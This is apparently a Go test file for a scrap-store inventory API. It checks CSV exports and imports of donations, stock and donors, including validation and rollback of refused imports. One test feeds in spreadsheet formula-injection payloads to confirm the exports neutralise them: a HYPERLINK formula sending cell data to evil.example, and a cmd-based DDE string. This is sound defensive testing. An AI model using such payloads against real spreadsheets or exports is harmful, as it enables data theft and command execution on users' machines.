package api

import (
	"encoding/csv"
	"net/http"
	"strings"
	"testing"

	"github.com/scrapstore/scrapstore/models"
)

func TestCSVExports(t *testing.T) {
	eachEnv(t, func(t *testing.T, e *testEnv) {
		staff := e.as(models.RoleStaff)
		cat := e.newCategory("Paper, card & \"board\"", "box", map[string]float64{"box": 4}, 0.92)
		loc := e.newLocation("B1")
		e.do(http.MethodPost, "/api/v1/donations", staff, map[string]any{"lines": []map[string]any{
			{"category_id": cat.ID, "description": "Card, A4\nmixed", "location_id": loc.ID, "quantity": 2},
			{"category_id": cat.ID, "description": "Tubes", "location_id": loc.ID, "quantity": 1.5, "weight_kg": 3.25},
		}}).want(http.StatusCreated)
		res := e.do(http.MethodGet, "/api/v1/donations.csv", staff, nil).want(http.StatusOK)
		if !strings.HasPrefix(res.header.Get("Content-Type"), "text/csv") {
			t.Fatalf("content type %q", res.header.Get("Content-Type"))
		}
		recs, err := csv.NewReader(strings.NewReader(string(res.body))).ReadAll()
		if err != nil || len(recs) != 3 || strings.Join(recs[0], ",") != strings.Join(models.DonationsCSVHeader, ",") {
			t.Fatalf("donations.csv: %v %q", err, recs)
		}
		if recs[1][9] != "Card, A4\nmixed" || recs[1][8] != cat.Name || recs[1][12] != "8" || recs[2][12] != "3.25" || recs[2][10] != "1.5" {
			t.Fatalf("rows %q", recs[1:])
		}
		res = e.do(http.MethodGet, "/api/v1/stock.csv", staff, nil).want(http.StatusOK)
		recs, _ = csv.NewReader(strings.NewReader(string(res.body))).ReadAll()
		if len(recs) != 3 || recs[1][8] != "2" || recs[1][11] != "8" {
			t.Fatalf("stock.csv %q", recs)
		}
		e.do(http.MethodGet, "/api/v1/donations.csv?from=2026-02-30", staff, nil).problem(http.StatusUnprocessableEntity, "from")
		e.do(http.MethodGet, "/api/v1/stock.csv", e.as(models.RoleMember), nil).problem(http.StatusForbidden, "")
	})
}

func TestCSVImports(t *testing.T) {
	eachEnv(t, func(t *testing.T, e *testEnv) {
		staff := e.as(models.RoleStaff)
		cat := e.newCategory("Wood", "each", map[string]float64{"each": 1.5}, 0.31)
		loc := e.newLocation("YARD")
		post := func(path, body string) *result {
			return e.do(http.MethodPost, path, staff, body, "Content-Type", "text/csv")
		}
		donors := "\ufeffname,contact_name,email,postcode,latitude,longitude\n" +
			"\"Smith & Sons, Joiners\",Dave,dave@smith.example,b66 1aa,52.49,-1.97\n" +
			"Bad Postcode Ltd,,,ZZ9,,\n" +
			"No Name,,,B70 7PA,95,0\n"
		var r models.ImportResult
		post("/api/v1/imports/donors?dry_run=true", donors).want(http.StatusOK).decode(&r)
		if !r.DryRun || r.Rows != 3 || len(r.Problems) != 2 || r.Problems[0].Row != 3 || r.Problems[0].Field != "postcode" || r.Problems[1].Row != 4 ||
			r.Problems[1].Field != "latitude" {
			t.Fatalf("dry run %+v", r)
		}
		p := post("/api/v1/imports/donors", donors).problem(http.StatusUnprocessableEntity, "")
		if len(p.Rows) != 2 {
			t.Fatalf("problem rows %+v", p.Rows)
		}
		var n int64
		e.store.DB(t.Context()).Model(&models.Donor{}).Count(&n)
		if n != 0 {
			t.Fatalf("a refused import kept %d donors", n)
		}
		post("/api/v1/imports/donors", strings.Join(strings.Split(donors, "\n")[:2], "\n")+"\n").want(http.StatusOK).decode(&r)
		var d models.Donor
		e.store.DB(t.Context()).First(&d)
		if r.Created != 1 || d.Name != "Smith & Sons, Joiners" || d.Postcode != "B66 1AA" {
			t.Fatalf("imported %+v %+v", r, d)
		}

		donations := "donation_id,received_at,donor_id,channel,category,description,quantity,unit,weight_kg,location\n" +
			"a,2026-10-01T10:00:00Z,,drop_off,Wood,Pallet slats,10,each,,yard\n" +
			"a,2026-10-01T10:00:00Z,,drop_off,Wood,Dowel,4,each,6.5,YARD\n" +
			"b,2026-10-02T11:00:00Z,,drop_off,Wood,Offcuts,-3,each,,YARD\n" +
			"c,yesterday,,drop_off,Metal,Rods,1,each,,YARD\n"
		post("/api/v1/imports/donations?dry_run=true", donations).want(http.StatusOK).decode(&r)
		fields := map[int]string{}
		for _, pr := range r.Problems {
			fields[pr.Row] += pr.Field + " "
		}
		if fields[4] != "quantity " || !strings.Contains(fields[5], "received_at") || !strings.Contains(fields[5], "category") || fields[2] != "" {
			t.Fatalf("problems %+v", r.Problems)
		}
		post("/api/v1/imports/donations", donations).want(http.StatusUnprocessableEntity)
		e.store.DB(t.Context()).Model(&models.Donation{}).Count(&n)
		if n != 0 {
			t.Fatalf("a refused import kept %d donations", n)
		}
		good := strings.Join(strings.Split(donations, "\n")[:3], "\n") + "\n"
		post("/api/v1/imports/donations", good).want(http.StatusOK).decode(&r)
		if r.Created != 1 {
			t.Fatalf("imported %+v", r)
		}
		var lines []models.DonationLine
		e.store.DB(t.Context()).Order("id").Find(&lines)
		if len(lines) != 2 || lines[0].WeightG != 15000 || lines[1].WeightG != 6500 || lines[0].LocationID != loc.ID || lines[0].CategoryID != cat.ID {
			t.Fatalf("lines %+v", lines)
		}
		post("/api/v1/imports/donations", "not,a\n\"broken").problem(http.StatusUnprocessableEntity, "file")
		e.do(http.MethodPost, "/api/v1/imports/donations", staff, map[string]any{}).problem(http.StatusUnsupportedMediaType, "")
		e.checkLedger()
	})
}

// Cells a spreadsheet would run as formulas are exported as text, in every export, and
// an exported file imports back as it was.
func TestCSVExportsDefuseFormulas(t *testing.T) {
	eachEnv(t, func(t *testing.T, e *testEnv) {
		staff := e.as(models.RoleStaff)
		evil := `=HYPERLINK("http://evil.example/?"&A1,"Click")`
		e.do(http.MethodPost, "/api/v1/donors", staff, map[string]any{"name": evil, "contact_name": "@SUM(A1:A9)", "phone": "+44 121 555 0101",
			"notes": "-2+3+cmd|' /C calc'!A0", "latitude": 52.49, "longitude": -1.97}).want(http.StatusCreated)
		cat := e.newCategory("Card", "box", map[string]float64{"box": 4}, 0.92)
		e.do(http.MethodPost, "/api/v1/donations", staff, map[string]any{"lines": []map[string]any{
			{"category_id": cat.ID, "description": "=1+1", "location_id": e.newLocation("B2").ID, "quantity": 1},
		}}).want(http.StatusCreated)

		res := e.do(http.MethodGet, "/api/v1/donors.csv", staff, nil).want(http.StatusOK)
		recs, err := csv.NewReader(strings.NewReader(string(res.body))).ReadAll()
		if err != nil || len(recs) != 2 {
			t.Fatalf("donors.csv: %v %q", err, recs)
		}
		row := map[string]string{}
		for i, h := range recs[0] {
			row[h] = recs[1][i]
		}
		want := map[string]string{"name": "'" + evil, "contact_name": "'@SUM(A1:A9)", "phone": "'+44 121 555 0101",
			"notes": "'-2+3+cmd|' /C calc'!A0", "longitude": "-1.97", "latitude": "52.49"}
		for k, v := range want {
			if row[k] != v {
				t.Errorf("donors.csv %s = %q, want %q", k, row[k], v)
			}
		}
		res = e.do(http.MethodGet, "/api/v1/stock.csv", staff, nil).want(http.StatusOK)
		if !strings.Contains(string(res.body), ",'=1+1,") {
			t.Errorf("stock.csv keeps a formula: %s", res.body)
		}
		for _, path := range []string{"/api/v1/donations.csv", "/api/v1/stock.csv", "/api/v1/donors.csv"} {
			recs, _ := csv.NewReader(strings.NewReader(string(e.do(http.MethodGet, path, staff, nil).want(http.StatusOK).body))).ReadAll()
			for _, rec := range recs[1:] {
				for _, cell := range rec {
					if cell != "" && strings.ContainsRune("=+@\t\r", rune(cell[0])) {
						t.Errorf("%s has a cell a spreadsheet would run: %q", path, cell)
					}
				}
			}
		}

		// The exported file imports back with the names as they were typed.
		var r models.ImportResult
		e.do(http.MethodPost, "/api/v1/imports/donors", staff, string(e.do(http.MethodGet, "/api/v1/donors.csv", staff, nil).body), "Content-Type",
			"text/csv").
			want(http.StatusOK).decode(&r)
		var names []string
		e.store.DB(t.Context()).Model(&models.Donor{}).Order("id").Pluck("name", &names)
		if len(names) != 2 || names[0] != evil || names[1] != evil {
			t.Fatalf("donors after importing the export: %q (%+v)", names, r)
		}
	})
}
